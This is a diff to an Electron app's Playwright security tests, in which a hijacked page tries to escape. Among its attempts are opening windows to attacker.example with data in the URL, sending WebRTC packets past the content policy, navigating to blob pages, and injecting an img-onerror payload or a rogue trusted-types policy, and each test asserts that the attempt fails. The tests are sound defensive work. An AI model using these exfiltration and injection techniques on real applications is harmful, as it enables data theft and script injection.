@@ -1,4 +1,7 @@
 import { texts } from './support/acts.ts'
+import { navigationsAsked, watchNavigation } from './support/navigation.ts'
+import { askedToOpen, watchOpening } from './support/outside.ts'
+import { listenForPackets } from './support/packets.ts'
 import { expect, test } from './support/test.ts'
 
 /** One test per attack: a page that has been taken over tries to get out. */
@@ -21,10 +24,112 @@ test('attack: the page opens a window', async ({ app, page }) => {
   expect(app.windows()).toHaveLength(1)
 })
 
+test('attack: the page carries data to the system’s browser in fifty windows', async ({ app, page }) => {
+  await watchOpening(app)
+  const opened = await page.evaluate(() =>
+    Array.from({ length: 50 }, (_, n) => {
+      const address = `https://attacker.example/${n}?data=${'x'.repeat(200)}`
+      const link = Object.assign(document.createElement('a'), { href: address, target: '_blank', rel: 'noopener' })
+      document.body.append(link)
+      link.click()
+      link.remove()
+      return window.open(address, n % 2 ? '_blank' : `name${n}`, n % 3 ? 'noopener' : '')
+    })
+  )
+  expect(opened).toEqual(Array.from({ length: 50 }, () => null))
+  // Whatever the page has asked for is decided on before main answers it.
+  expect(await page.evaluate(() => window.kontorist.call('app.info', {}))).toMatchObject({ ok: true })
+  expect(await askedToOpen(app)).toEqual([])
+  expect(app.windows()).toHaveLength(1)
+})
+
+for (const [what, go] of [
+  ['a page that it has written itself', () => void (location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))],
+  ['such a page, in place of its own', () => location.replace(URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })))],
+  ['another file of the program', () => void (location.href = '/assets/other.html')],
+  ['the root of the program', () => void (location.href = '/')],
+  ['its own page with something asked of it', () => void (location.href = '/index.html?x=1')],
+  ['another host of its scheme', () => void (location.href = location.href.replace('kontorist', 'other'))]
+] as const) {
+  test(`attack: the page goes to ${what}`, async ({ app, page }) => {
+    await watchNavigation(app)
+    // The first page has been routed to.
+    await expect(page).toHaveURL(/#\/overview$/)
+    const before = page.url()
+    await page.evaluate(go)
+    await expect.poll(() => navigationsAsked(app)).toEqual([expect.objectContaining({ isDenied: true })])
+    await expect(page.getByRole('heading', { name: texts.signIn.connect.welcome })).toBeVisible()
+    expect(page.url()).toBe(before)
+    expect(await page.evaluate(() => typeof window.kontorist)).toBe('object')
+  })
+}
+
+test('attack: a peer connection of the page sends packets past the content policy', async ({ page }) => {
+  const listener = await listenForPackets()
+  await page.evaluate(
+    (servers) =>
+      new Promise<void>((resolve) => {
+        const connection = new RTCPeerConnection({ iceServers: [{ urls: [...servers], username: 'u', credential: 'data' }] })
+        connection.onicegatheringstatechange = () => {
+          if (connection.iceGatheringState === 'complete') resolve()
+        }
+        connection.createDataChannel('data')
+        void connection.setLocalDescription()
+      }),
+    listener.servers
+  )
+  expect(await listener.close()).toBe(0)
+})
+
+test('attack: the page asks another way to the network than main’s', async ({ app, page }) => {
+  await expect(page).toHaveTitle(/.+/)
+  const ways = await app.evaluate(async ({ BrowserWindow, session }) => {
+    const own = BrowserWindow.getAllWindows()[0]?.webContents.session
+    const addresses = ['https://attacker.example/', 'http://127.0.0.1:8080/', 'http://localhost/', 'wss://attacker.example/']
+    return { isShared: own === session.defaultSession, ways: await Promise.all(addresses.map((address) => own?.resolveProxy(address))) }
+  })
+  expect(ways).toEqual({ isShared: false, ways: Array.from({ length: 4 }, () => 'PROXY 127.0.0.1:1') })
+})
+
+test('attack: a text becomes markup, a script or a policy of the page’s own', async ({ page }) => {
+  const attempts = await page.evaluate(
+    () =>
+      new Promise<readonly string[]>((resolve) => {
+        const outcome = (attempt: () => unknown): string => {
+          try {
+            attempt()
+            return 'done'
+          } catch (error) {
+            return (error as Error).name
+          }
+        }
+        const element = document.createElement('div')
+        const script = document.createElement('script')
+        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+        // In a task of the page's own: what the test evaluates directly is exempt from the content policy.
+        requestAnimationFrame(() => {
+          resolve(
+            [
+              () => Object.assign(element, { innerHTML: '<img src=x onerror=1>' }),
+              () => element.insertAdjacentHTML('beforeend', '<b>x</b>'),
+              () => document.write('<b>x</b>'),
+              () => Object.assign(script, { src: '/assets/x.js' }),
+              () => Object.assign(script, { text: 'window.taken = true' }),
+              () => trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
+              () => trustedTypes.createPolicy('vue', { createHTML: (text: string) => text })
+            ].map(outcome)
+          )
+        })
+      })
+  )
+  expect(attempts).toEqual(Array.from({ length: 7 }, () => 'TypeError'))
+})
+
 test('attack: an inline script is put into the page', async ({ page }) => {
   const ran = await page.evaluate(() => {
     const script = document.createElement('script')
-    script.textContent = 'window.taken = true'
+    // Its text cannot even be set; what is put into it as any other text is never run.
+    script.append('window.taken = true')
     document.head.append(script)
     return 'taken' in window
   })
